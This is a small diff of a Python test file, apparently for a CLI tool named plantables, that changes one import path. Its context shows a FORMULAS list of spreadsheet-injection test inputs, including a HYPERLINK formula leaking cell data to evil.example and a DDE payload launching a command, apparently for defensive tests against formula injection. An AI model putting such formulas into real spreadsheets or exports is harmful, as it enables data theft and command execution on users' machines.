@@ -14,7 +14,7 @@ from click.testing import CliRunner
 from plantables.cli import cli
 from plantables.schema import db
 from plantables.schema.loader import FileInfo, load_document
-from tests.test_loader import make_plan
+from tests.integration.test_loader import make_plan
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
             "@SUM(1+1)", "\t=1+1", "\r=1+1"]
